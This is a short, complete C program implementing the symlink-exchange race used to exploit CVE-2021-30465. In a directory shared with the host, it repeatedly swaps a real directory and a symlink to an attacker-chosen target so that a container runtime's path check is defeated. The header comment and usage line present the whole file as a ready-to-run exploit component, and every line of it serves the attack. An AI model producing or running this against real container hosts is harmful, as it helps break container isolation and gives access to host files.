/* The CVE-2021-30465 race: in a directory shared with the host, swap a
 * real directory and a symlink to TARGET atomically, over and over, so a
 * runtime that checks a path and then uses it meets the symlink.
 * Usage: swap_symlink DIR TARGET SECONDS   (swaps DIR/x and DIR/x.swap) */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv) {
    if (chdir(argv[1]) != 0) { perror("chdir"); return 1; }
    mkdir("x", 0755);
    symlink(argv[2], "x.swap");
    time_t end = time(NULL) + atoi(argv[3]);
    long swaps = 0;
    printf("ready\n");
    fflush(stdout);
    while (time(NULL) < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, "x", AT_FDCWD, "x.swap", RENAME_EXCHANGE) == 0)
            swaps++;
    }
    printf("%ld swaps\n", swaps);
    return 0;
}
